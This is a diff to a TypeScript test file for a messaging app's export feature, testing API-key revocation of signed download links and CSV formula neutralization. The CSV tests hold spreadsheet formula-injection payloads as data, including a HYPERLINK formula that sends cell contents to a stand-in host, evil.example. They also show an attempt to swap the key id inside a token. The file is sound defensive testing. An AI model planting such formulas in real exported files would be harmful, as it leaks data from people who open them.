@@ -8,10 +8,10 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { decodeGlobalID, encodeGlobalID } from '@pothos/plugin-relay';
 import type { Prisma } from '../src/db/client';
 import { graphql } from './gql';
-import { ok } from './support/client';
+import { graphqlClient, ok } from './support/client';
 import { createOrganizationFixture, NUMBERS, type OrganizationFixture } from './support/fixtures';
 import { eventually, startServer, usesServices, type TestServer } from './support/server';
-import { CSV_COLUMNS, signedExportUrl } from '../src/messaging/export';
+import { CSV_COLUMNS, neutralizeFormula, signedExportUrl } from '../src/messaging/export';
 import { MAX_BODY_CHARACTERS } from '../src/messaging/send';
 import { seedMessages } from '../bench/export';
 
@@ -45,6 +45,25 @@ const ExportConversationLink = graphql(`
   }
 `);
 
+const ExportCreateApiKey = graphql(`
+  mutation ExportCreateApiKey($input: CreateApiKeyInput!) {
+    createApiKey(input: $input) {
+      __typename
+      ... on CreateApiKeyPayload { apiKey apiKeyId }
+      ... on Error { code message }
+    }
+  }
+`);
+
+const ExportRevokeApiKey = graphql(`
+  mutation ExportRevokeApiKey($id: ID!) {
+    revokeApiKey(id: $id) {
+      __typename
+      ... on Error { code message }
+    }
+  }
+`);
+
 let server: TestServer;
 let org: OrganizationFixture;
 let other: OrganizationFixture;
@@ -71,7 +90,7 @@ beforeAll(async () => {
   org = await createOrganizationFixture(server);
   other = await createOrganizationFixture(server, { name: 'Other', numberOffset: 1 });
   const { db } = server.app.services;
-  const numberId = async (phoneNumber: string) => (await db.phoneNumber.findUniqueOrThrow({ where: { phoneNumber } })).id;
+  const numberId = async (phoneNumber: string) => (await db.phoneNumber.findFirstOrThrow({ where: { phoneNumber } })).id;
   orgId = decodeGlobalID(org.organizationId).id;
   otherId = decodeGlobalID(other.organizationId).id;
   const twilio = org.numbers.twilio.phoneNumber;
@@ -372,10 +391,64 @@ describe('signed download URLs from GraphQL', () => {
     expect((await fetch(transplanted)).status).toBe(403);
 
     // A link issued 16 minutes ago by this server has expired.
-    const old = signedExportUrl(server.app.services, orgId, '/export/messages', { format: 'csv' }, Date.now() - 16 * 60_000);
+    const apiKeyId = (await server.app.services.db.apiKey.findFirstOrThrow({ where: { organizationId: orgId, revokedAt: null } })).id;
+    const old = signedExportUrl(server.app.services, { organizationId: orgId, apiKeyId }, '/export/messages', { format: 'csv' }, Date.now() - 16 * 60_000);
     const expired = await fetch(old.url);
     expect(expired.status).toBe(403);
     expect((await expired.json()).error.message).toMatch(/expired/);
+  });
+});
+
+describe('links and revoked keys', () => {
+  it('a link stops downloading once the API key that made it is revoked; links made with other keys still work', async () => {
+    const created = (await ok(org.request(ExportCreateApiKey, { input: { name: 'exporter' } }))).createApiKey;
+    if (created.__typename !== 'CreateApiKeyPayload') throw new Error(JSON.stringify(created));
+    const exporter = graphqlClient(server.url, created.apiKey);
+    const mine = (await ok(exporter(ExportMessagesLink, { format: 'CSV' }))).exportMessages;
+    const thread = (await ok(exporter(ExportConversationLink, { id: cid('c1'), format: 'TXT' }))).exportConversation;
+    const others = (await ok(org.request(ExportMessagesLink, { format: 'JSONL' }))).exportMessages;
+    if (mine.__typename !== 'ExportPayload' || thread.__typename !== 'ExportPayload' || others.__typename !== 'ExportPayload') throw new Error('no link');
+    expect((await fetch(mine.url)).status).toBe(200);
+    expect((await fetch(thread.url)).status).toBe(200);
+
+    const revoked = (await ok(org.request(ExportRevokeApiKey, { id: created.apiKeyId }))).revokeApiKey;
+    expect(revoked.__typename).toBe('RevokeApiKeyPayload');
+    for (const url of [mine.url, thread.url]) {
+      const response = await fetch(url);
+      expect(response.status).toBe(403);
+      expect((await response.json()).error.message).toMatch(/revoked/);
+    }
+    expect((await fetch(others.url)).status).toBe(200);
+    // The key id in the token is signed: swapping in a live key's id does not bring the link back.
+    const liveKeyId = (await server.app.services.db.apiKey.findFirstOrThrow({ where: { organizationId: orgId, revokedAt: null } })).id;
+    const swapped = new URL(mine.url);
+    swapped.searchParams.set('token', swapped.searchParams.get('token')!.replace(`.${created.apiKeyId}.`, `.${liveKeyId}.`));
+    expect((await fetch(swapped)).status).toBe(403);
+  });
+});
+
+describe('CSV and spreadsheets', () => {
+  it('neutralizes cells a spreadsheet would run as formulas, keeping phone numbers and plain numbers', () => {
+    for (const cell of ['=1+2', '=HYPERLINK("https://evil.example/?"&A1,"x")', '+A1', '-2+3', '@SUM(A1:A2)', '\t=1', '\r=1', '-', '+']) {
+      expect(neutralizeFormula(cell), cell).toBe(`'${cell}`);
+    }
+    for (const cell of ['+14155552671', '-3', '-12.5', 'Hello', ' =1', "'=1", '']) expect(neutralizeFormula(cell), cell).toBe(cell);
+  });
+
+  it('exports a message whose body is a formula with a leading quote, in CSV only', async () => {
+    const third = await createOrganizationFixture(server, { name: 'Formulas', numberOffset: 2 });
+    const thirdId = decodeGlobalID(third.organizationId).id;
+    const formula = '=HYPERLINK("https://evil.example/?"&A1,"Click")';
+    await server.app.services.db.message.create({
+      data: {
+        organizationId: thirdId, direction: 'INBOUND', provider: 'TWILIO', status: 'RECEIVED', from: NUMBERS.customer, to: third.numbers.twilio.phoneNumber,
+        body: formula, errorMessage: '@cmd', segments: 1, encoding: 'GSM7', createdAt: at(5),
+      },
+    });
+    const [record] = await csvRecords(await get('/export/messages?format=csv', third.apiKey));
+    expect(record).toMatchObject({ body: `'${formula}`, errorMessage: "'@cmd", from: NUMBERS.customer, to: third.numbers.twilio.phoneNumber });
+    const [line] = (await (await get('/export/messages?format=jsonl', third.apiKey)).text()).trim().split('\n');
+    expect(JSON.parse(line).body).toBe(formula);
   });
 });
 
